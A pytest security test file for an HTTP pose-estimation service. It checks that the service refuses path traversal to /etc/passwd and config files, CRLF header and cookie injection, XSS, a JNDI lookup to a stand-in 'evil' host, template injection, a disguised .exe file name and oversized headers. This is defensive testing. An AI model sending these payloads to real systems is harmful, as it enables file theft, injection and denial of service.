"""Paths, headers and file names that try to be more than that."""

import json
from typing import Any

import pytest

TRAVERSALS = (
    "/../../../../etc/passwd",
    "/..%2f..%2f..%2fetc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/..%5c..%5cetc%5cpasswd",
    "//etc/passwd",
    "/./index.html/../../../service/settings.py",
    "/index.html%00.js",
    "/app.js/../../../pyproject.toml",
    "/static/../../pyproject.toml",
    "/.git/config",
    "/service/settings.py",
    "file:///etc/passwd",
    "http://localhost/../etc/passwd",
    "/%c0%ae%c0%ae/etc/passwd",
    "/" + "../" * 200 + "etc/passwd",
)


def ask(target: Any, path: str, *headers: bytes) -> bytes:
    """The whole answer to a GET whose head is sent as it is."""
    head = b"GET " + path.encode() + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
    return target.send(head + b"".join(header + b"\r\n" for header in headers) + b"\r\n", end=False)


@pytest.mark.parametrize("path", TRAVERSALS)
def test_no_path_leads_out_of_the_page(target: Any, path: str) -> None:
    answer = ask(target, path)
    assert answer[9:12] in (b"400", b"404")
    for secret in (b"root:", b"[project]", b"HANDPOSE_", b"[core]"):
        assert secret not in answer


def test_what_a_path_says_is_told_as_text(target: Any) -> None:
    answer = ask(target, "/%0d%0aSet-Cookie:%20a=b%0d%0a%0d%0a<script>alert(1)</script>")
    head, _, body = answer.partition(b"\r\n\r\n")
    assert b"set-cookie" not in head.lower()
    assert b"content-type: application/problem+json" in head.lower()
    assert "<script>" in json.loads(body)["detail"]  # JSON that no browser takes for a page
    assert b"x-content-type-options: nosniff" in head.lower()


@pytest.mark.parametrize(
    "given",
    [
        b"a\rSet-Cookie: a=b",
        b"a\n b",
        b"a\x00b",
        b"a b",
        b"\xc3\xa9\xff",
        b"<script>",
        b"x" * 129,
        b"${jndi:ldap://evil/a}",
        b'"},{"level":"error',
        b"\x1b[31m",
    ],
)
def test_a_request_id_cannot_write_headers_or_lines_of_the_log(target: Any, given: bytes) -> None:
    answer = ask(target, "/healthz", b"X-Request-ID: " + given)
    head = answer.partition(b"\r\n\r\n")[0].lower()
    assert b"set-cookie" not in head
    assert given.lower() not in head
    assert answer[9:12] in (b"200", b"400")


def test_several_request_ids_are_one(target: Any) -> None:
    head = (
        ask(target, "/healthz", b"X-Request-ID: one", b"X-Request-ID: two").partition(b"\r\n\r\n")[0].lower()
    )
    assert head.count(b"x-request-id:") == 1


@pytest.mark.parametrize(
    "name",
    [
        b"../../etc/passwd",
        b"a\\\\..\\\\b",
        b"<img src=x onerror=alert(1)>.jpg",
        b'a\\"; name=\\"other',
        b"\xff\xfe\x00.jpg",
        b"%0d%0aX-Injected: 1",
        b"{{7*7}}${7*7}",
        b"a" * 7000,
        "\u202egpj.exe".encode(),
    ],
    ids=lambda name: repr(name[:16]),
)
def test_a_files_name_is_told_back_as_text_and_used_for_nothing(
    target: Any, photo: bytes, name: bytes
) -> None:
    body = b'--B\r\nContent-Disposition: form-data; name="images"; filename="' + name + b'"\r\n\r\n'
    response = target.http.post(
        "/v1/pose/batch",
        content=body + photo + b"\r\n--B--\r\n",
        headers={"Content-Type": "multipart/form-data; boundary=B"},
    )
    assert "x-injected" not in response.headers
    assert response.headers["content-type"] in ("application/json", "application/problem+json")
    if response.status_code == 200:
        (result,) = response.json()["results"]
        assert len(result["name"]) <= 255
    else:
        assert response.status_code == 422


@pytest.mark.parametrize(
    "header",
    [
        b"Host: evil.example/../",
        b"X-Forwarded-For: " + b"1.2.3.4, " * 2000,
        b"X-Forwarded-Proto: javascript",
        b"Forwarded: for=evil",
        b"Accept: " + b"a/b;q=0.1," * 4000,
        b"Accept: " + b"(" * 20_000,
        b"Authorization: Bearer " + b"hp_" + b"a" * 30_000,
        b"Cookie: " + b"a=b; " * 5000,
        b"Origin: null",
        b"traceparent: 00-" + b"f" * 1000,
        b"Range: bytes=0-0," + b"0-1," * 5000,
        b"If-None-Match: " + b'"a",' * 5000,
        b"If-Modified-Since: " + b"9" * 5000,
        b"Content-Type: multipart/form-data; boundary=" + b"a" * 60_000,
        b"Content-Type: " + b"a" * 30_000 + b";" * 20_000,
    ],
    ids=lambda header: repr(header[:24]),
)
@pytest.mark.parametrize("path", ["/", "/v1/models", "/v1/pose"])
def test_no_header_breaks_anything(target: Any, path: str, header: bytes) -> None:
    if path == "/v1/pose":
        head = b"POST /v1/pose HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 3\r\n"
        answer = target.send(head + header + b"\r\n\r\nabc", end=False)
    else:
        answer = ask(target, path, header)
    assert int(answer[9:12]) < 500
